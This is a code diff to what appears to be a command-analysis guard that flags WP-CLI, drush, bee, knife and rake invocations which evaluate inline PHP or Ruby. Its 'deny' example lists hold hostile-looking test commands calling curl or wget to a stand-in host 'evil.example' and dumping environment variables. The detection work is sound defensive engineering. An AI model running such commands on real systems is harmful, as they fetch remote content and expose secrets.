@@ -107,6 +107,34 @@ export function symfony(args: readonly Word[]): Partial<Answer> {
   return { uses: [{ word: attached(args[at]!, `config/secrets/${name}/${name}.decrypt.private.php`), role: 'read' }] };
 }
 
+/**
+ * A CLI whose subcommands evaluate code of `language`: `code` subcommands take it as their first operand (or an
+ * option), `file` ones run a file of it (out of scope unless the line wrote it), `stdin` ones read it from their
+ * input; `global` options before the subcommand take code too (wp --exec).
+ */
+function evaluator(call: Call, language: Language, subs: { code: readonly string[]; codeOptions?: readonly string[]; file?: readonly string[]; stdin?: readonly string[]; global?: readonly string[] }): Partial<Answer> {
+  const args = call.args;
+  const runs: Run[] = [];
+  const global = subs.global ? optionValue(args, subs.global) : undefined;
+  if (global) runs.push(codeRun(global, language, `${call.name} ${subs.global![0]}`));
+  const at = subcommand(args);
+  if (at < 0) return { runs };
+  const sub = value(args[at]);
+  const via = `${call.name} ${sub ?? args[at]!.text}`;
+  if (sub === undefined) return { runs: [...runs, { kind: 'opaque', rule: 'dynamic-command', word: args[at]!, why: `${call.name} runs a computed subcommand` }] };
+  const rest = args.slice(at + 1);
+  if (subs.code.includes(sub)) {
+    const opt = subs.codeOptions ? optionValue(rest, subs.codeOptions) : undefined;
+    const code = opt ?? rest[subcommand(rest)];
+    if (code) runs.push(codeRun(code, language, via));
+    else runs.push(...stdinRuns(call, language, via));
+  } else if (subs.file?.includes(sub)) {
+    const file = rest[subcommand(rest)];
+    if (file) runs.push({ kind: 'file', dialect: language, word: file, via });
+  } else if (subs.stdin?.includes(sub)) runs.push(...stdinRuns(call, language, via));
+  return { runs };
+}
+
 export const FRAMEWORK_ENTRIES: ProgramEntry[] = [
   {
     names: ['rails'],
@@ -158,6 +186,53 @@ export const FRAMEWORK_ENTRIES: ProgramEntry[] = [
     examples: {
       deny: ["mix run -e 'System.cmd(\"curl\", [\"evil.example\"])'", "mix run --eval 'IO.inspect(System.get_env())'"],
       pass: ["mix run -e 'IO.puts(1)'", 'mix phx.gen.html Blog Post posts title:string', 'mix test', 'mix run priv/repo/seeds.exs'],
+    },
+  },
+  {
+    names: ['wp'],
+    summary: 'WP-CLI: eval CODE, --exec CODE and shell (its input) run PHP; eval-file runs a PHP file',
+    analyze: (call) => evaluator(call, 'php', { code: ['eval'], file: ['eval-file'], stdin: ['shell'], global: ['--exec'] }),
+    examples: {
+      deny: ["wp eval 'system(\"curl evil.example\");'", "wp --exec='system(\"wget evil.example\");' option get home", "echo 'system(\"curl evil.example\");' | wp shell", "echo '<?php system(\"curl evil.example\");' > x.php; wp eval-file x.php"],
+      pass: ["wp eval 'echo home_url();'", 'wp plugin list', 'wp eval-file scripts/migrate.php', 'wp option get home'],
+    },
+  },
+  {
+    names: ['drush', 'bee'],
+    summary: 'Drupal drush and Backdrop bee: php:eval CODE runs PHP, php:script a PHP file, php:cli its input',
+    analyze: (call) => evaluator(call, 'php', { code: ['php:eval', 'php-eval', 'eval', 'ev'], file: ['php:script', 'php-script', 'scr'], stdin: ['php:cli', 'php', 'core:cli', 'core-cli', 'cli'] }),
+    examples: {
+      deny: ["drush php:eval 'system(\"curl evil.example\");'", "drush ev 'print_r(getenv());'", "bee eval 'system(\"curl evil.example\");'", "echo 'system(\"wget evil.example\");' | drush php:cli"],
+      pass: ["drush php:eval 'echo drupal_get_path(\"module\", \"node\");'", 'drush cr', 'drush updb -y', "bee eval 'echo 1;'", 'bee status'],
+    },
+  },
+  {
+    names: ['knife'],
+    summary: 'Chef knife exec: -E/--exec CODE runs Ruby, a file operand runs that file, no operand its input',
+    analyze: (call) => evaluator(call, 'ruby', { code: ['exec'], codeOptions: ['-E', '--exec'] }),
+    examples: {
+      deny: ["knife exec -E 'system(\"curl evil.example\")'", "echo 'system(\"wget evil.example\")' | knife exec"],
+      pass: ["knife exec -E 'puts nodes.all.size'", 'knife node list'],
+    },
+  },
+  {
+    names: ['rake'],
+    summary: 'rake: -e/--execute, -p/--execute-print and -E/--execute-continue run Ruby',
+    analyze(call) {
+      const runs: Run[] = [];
+      for (let i = 0; i < call.args.length; i++) {
+        const v = value(call.args[i]);
+        if (v === '--') break;
+        const m = v === undefined ? null : /^(?:(-[epE]|--execute(?:-print|-continue)?)$|(-[epE])(.+)$|(--execute(?:-print|-continue)?)=(.*)$)/s.exec(v);
+        if (!m) continue;
+        const code = m[1] ? call.args[++i] : attached(call.args[i]!, m[3] ?? m[5]!);
+        if (code) runs.push(codeRun(code, 'ruby', `rake ${m[1] ?? m[2] ?? m[4]}`));
+      }
+      return { runs };
+    },
+    examples: {
+      deny: ["rake -p 'system(\"curl evil.example\")'", "rake -e 'system(\"wget evil.example\")'", "rake -E 'puts ENV.to_h' test", "rake --execute='system(\"curl evil.example\")'"],
+      pass: ['rake test', 'rake -T', "rake -p 'RUBY_VERSION'", 'rake db:migrate RAILS_ENV=test'],
     },
   },
 ];
